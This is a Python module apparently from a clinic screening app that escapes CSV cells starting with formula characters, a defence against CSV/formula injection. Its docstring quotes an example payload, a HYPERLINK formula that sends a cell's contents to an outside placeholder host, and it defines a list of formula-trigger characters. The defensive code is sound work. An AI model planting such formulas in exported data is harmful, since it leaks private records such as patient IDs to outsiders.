"""CSV cells that a spreadsheet shows as text, never runs as a formula.

File names, patient IDs and error messages (which often start with the file name) come
from outside the app. A cell such as ``=HYPERLINK("http://x?"&A1)`` or ``@SUM(...)`` in
results.csv would be run by Excel or LibreOffice when the clinic opens the file (CSV or
formula injection). Following OWASP's advice, a text cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which spreadsheets
treat as "this is text" and do not display; the csv module quotes and escapes the rest.

Every CSV the app writes goes through :func:`csv_safe_text` (see ``screening.export``),
so no cell of any export starts with a formula character. Every cell is checked, numbers
included: the app's numbers are never negative (probabilities, timings, distances), and a
negative one would merely read as text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

# OWASP "CSV Injection": = + - @ tab CR. Full-width forms and LF are added because some
# spreadsheet programs normalise them before deciding whether a cell is a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise_cell(text: str) -> str:
    """``text`` made safe to open in a spreadsheet: formula starts get a leading "'".

    Leading spaces do not hide a formula (some programs trim them), so the first
    non-space character decides."""
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_safe_text(header: Sequence[str], rows: Iterable[Sequence[str]]) -> str:
    """CSV text (CRLF line ends, minimal quoting) with every cell neutralised."""
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\r\n")
    writer.writerow([neutralise_cell(c) for c in header])
    for row in rows:
        writer.writerow([neutralise_cell(c) for c in row])
    return buf.getvalue()


__all__ = ["FORMULA_STARTS", "csv_safe_text", "neutralise_cell"]
